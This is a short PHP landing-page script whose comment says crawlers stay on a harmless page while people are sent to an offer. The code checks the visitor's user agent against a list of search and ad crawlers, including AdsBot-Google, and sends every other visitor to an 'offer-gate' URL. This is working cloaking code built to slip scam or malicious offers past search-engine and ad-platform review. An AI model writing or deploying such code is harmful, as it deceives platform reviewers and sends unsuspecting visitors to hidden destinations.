<?php
// Landing: crawlers stay on the harmless page, people are sent to the offer.
$crawlers = ['Googlebot', 'bingbot', 'YandexBot', 'Baiduspider', 'AdsBot-Google'];
$agent = $_SERVER['HTTP_USER_AGENT'] ?? '';
foreach ($crawlers as $c) {
    if (stripos($agent, $c) !== false) {
        exit;
    }
}
header('Location: https://offer-gate.example/r/7Hq2');
exit;
